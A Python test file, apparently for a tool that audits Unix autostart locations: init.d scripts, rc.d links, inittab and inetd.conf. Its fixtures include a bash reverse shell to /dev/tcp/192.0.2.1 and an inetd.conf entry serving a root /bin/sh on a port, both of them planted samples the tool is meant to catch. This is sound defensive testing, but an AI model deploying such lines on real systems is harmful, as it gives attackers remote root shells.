from pathlib import Path

from tests.fixtures.autostart_roots import collect, make_root, write


def test_scripts_and_the_links_that_switch_them_on(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    write(root, {"etc/init.d/x": "#!/bin/sh\n/opt/x\n", "opt/y": "#!/bin/sh\n", "etc/rc2.d/S71rpc": "#!/bin/sh\n"})
    (root / "etc/rc2.d/S01x").symlink_to("../init.d/x")
    (root / "etc/rc2.d/S02y").symlink_to("/opt/y")
    (root / "etc/rc2.d/K03gone").symlink_to("../init.d/gone")
    found = {e.system_path(): e for e in collect(root).entries if e.kind in ("init", "rc")}
    assert set(found) == {"/etc/init.d/x", "/opt/y", "/etc/rc2.d/S71rpc"}
    assert [link.text for link in found["/etc/init.d/x"].links] == [f"{root}/etc/rc2.d/S01x"]
    assert found["/etc/init.d/x"].runs == ("/opt/x",)
    assert [link.text for link in found["/opt/y"].links] == [f"{root}/etc/rc2.d/S02y"]
    assert (found["/etc/rc2.d/S71rpc"].kind, found["/etc/rc2.d/S71rpc"].entry) == ("rc", "S71rpc")


def test_machine_code_is_no_text(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    write(root, {"etc/init.d/code": "\x7fELF\0bash -i >& /dev/tcp/192.0.2.1/9"})
    (entry,) = [e for e in collect(root).entries if e.kind == "init"]
    assert (entry.text, entry.size > 0, len(entry.sha256)) == (b"", True, 64)


def test_tables_of_init(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    write(
        root,
        {
            "etc/inittab": "# x\nid:2:initdefault:\nx:2345:respawn:/opt/x -a\nnonsense\n",
            "etc/inetd.conf": "600 stream tcp nowait root /bin/sh sh -i\n",
        },
    )
    found = [(e.entry, e.line, e.user, e.command) for e in collect(root).entries if e.kind == "init"]
    assert found == [
        ("id", 2, "root", ""),
        ("x", 3, "root", "/opt/x -a"),
        ("nonsense", 4, "root", ""),
        ("600", 1, "root", "/bin/sh sh -i"),
    ]


def test_rc_local_under_two_names_is_one(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    write(root, {"etc/rc.d/rc.local": "#!/bin/sh\n"})
    (root / "etc/rc.local").symlink_to("rc.d/rc.local")
    (entry,) = [e for e in collect(root).entries if e.kind == "rc"]
    assert (entry.system_path(), "by-line" in entry.facts) == ("/etc/rc.d/rc.local", True)
